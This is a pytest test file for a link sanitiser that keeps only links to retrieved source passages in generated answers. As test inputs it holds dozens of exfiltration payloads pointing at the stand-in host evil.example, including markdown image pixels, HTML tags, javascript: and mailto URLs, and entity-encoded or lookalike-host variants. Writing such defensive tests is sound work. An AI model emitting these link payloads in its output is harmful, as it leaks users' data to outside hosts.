"""No link but to a retrieved source."""

import pytest

from core.model.answer_links import REMOVED, SourceLinks, without_foreign_links

OURS = SourceLinks(frozenset({"https://docs.example.com/refunds", "https://wiki.example.com/a_(b)"}))


@pytest.mark.parametrize(
    "text",
    [
        "See https://evil.example/?q=secret now",
        "See HTTP://evil.example/secret",
        "![pixel](https://evil.example/p.png?d=secret)",
        "[click](https://evil.example/secret)",
        '[click](https://evil.example/secret "title")',
        "[click](<https://evil.example/secret>)",
        "[click][1]\n\n[1]: https://evil.example/secret",
        "<https://evil.example/secret>",
        '<img src="https://evil.example/secret">',
        '<a href="https://evil.example/secret">here</a>',
        "//evil.example/secret",
        "www.evil.example/secret",
        "evil.example/p?d=secret",
        "javascript:alert(secret)",
        "data:text/html,secret",
        "mailto:evil@evil.example?body=secret",
        "`https://evil.example/secret`",
        "https://docs.example.com/refunds?leak=secret",
        "https://docs.example.com.evil.example/secret",
        "https://docs.example.com/refunds@evil.example/secret",
        "[https://docs.example.com/refunds](https://evil.example/secret)",
        "slack://secret",
        "tel:+49secret",
        "xmpp:evil@evil.example/secret",
        "https:&sol;&sol;evil.example/secret",
        "https:&#x2F;/evil.example/secret",
        "https:\\/\\/evil.example/secret",
        "ht&#116;ps&colon;&#47;\\/evil.example/secret",
        "www&period;evil.example/secret",
        "w&#119;w.evil.example/secret",
        "https://docs.example.com/refunds|secret",
        "https://docs.example.com/refunds`secret",
        'https://docs.example.com/refunds"secret',
        "https://docs.example.com/refunds'secret",
        "https://docs.example.com/refunds)secret",
        "https://docs.example.com/refunds]secret",
        "https://docs.example.com/refunds[1]secret",
        "https://docs.example.com/refunds,secret",
        "<https://docs.example.com/refunds|secret>",
        "[a](https://docs.example.com/refunds|secret)",
    ],
)
def test_a_foreign_link_is_gone(text: str) -> None:
    assert "secret" not in without_foreign_links(text, OURS)


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.com/refunds.",
        "See [the policy](https://docs.example.com/refunds), section 2.",
        "[odd](https://wiki.example.com/a_(b))",
        r"Use `\w\w\w.` or `\/\/` in C:\\.config",
        "Version 2.1 of node.js costs 3.50 and and/or e.g. this.",
        "Write to /etc/hosts, or call foo.bar().",
        "The ratio is 3:1 and the time 10:30.",
    ],
)
def test_what_is_no_foreign_link_stays_as_it_is(text: str) -> None:
    assert without_foreign_links(text, OURS) == text


def test_a_removed_markdown_link_keeps_its_words() -> None:
    assert without_foreign_links("[the refund page](https://evil.example/x)", OURS) == "the refund page"


def test_a_bare_link_leaves_a_word_in_its_place() -> None:
    assert without_foreign_links("go to https://evil.example/x please", OURS) == f"go to {REMOVED} please"


NAMED = SourceLinks(
    passages=("Write to <mailto:jo@example.org> or call tel:+49-30-123. See https://hr.example/leave.",)
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Write to <mailto:jo@example.org> [1].", "Write to jo@example.org [1]."),
        ("Write to [Jo](mailto:jo@example.org).", "Write to Jo (jo@example.org)."),
        ("Call tel:+49-30-123.", "Call +49-30-123."),
        ("It stands at https://hr.example/leave[1].", "It stands at `https://hr.example/leave`[1]."),
    ],
)
def test_an_address_that_a_passage_names_stays_readable(text: str, shown: str) -> None:
    assert without_foreign_links(text, NAMED) == shown


@pytest.mark.parametrize(
    "text",
    [
        "<mailto:jo@example.org?body=secret>",
        "mailto:jo@example.org.secret",
        "https://hr.example/leave/secret",
        "https://hr.example/leave?secret",
        "https://secret.hr.example/leave",
        "tel:+49-30-123-secret",
    ],
)
def test_an_address_that_says_more_than_the_passage_is_gone(text: str) -> None:
    assert "secret" not in without_foreign_links(text, NAMED)


API = SourceLinks(
    passages=(
        "Base URL: https://api.acme.example/v1/{tenant}/items",
        "| `LIVE` | `wss://hub.example:9000/live` |",
        "List them with https://api.acme.example/v1/boxes?limit=secret as before.",
    )
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "Base URL: https://api.acme.example/v1/{tenant}/items [1]",
            "Base URL: `https://api.acme.example/v1/{tenant}/items` [1]",
        ),
        ("It is `wss://hub.example:9000/live`. [1]", "It is `wss://hub.example:9000/live`. [1]"),
    ],
)
def test_the_address_of_an_interface_that_a_passage_gives_is_shown_as_code(text: str, shown: str) -> None:
    assert without_foreign_links(text, API) == shown


@pytest.mark.parametrize(
    "text",
    [
        "https://api.acme.example/v1/secret/items",
        "https://api.acme.example/v1/boxes?limit=secret",
        "wss://hub.example:9000/live/secret",
        "ws://secret.example/live",
    ],
)
def test_an_interface_that_no_passage_gives_is_gone(text: str) -> None:
    assert "secret" not in without_foreign_links(text, API)
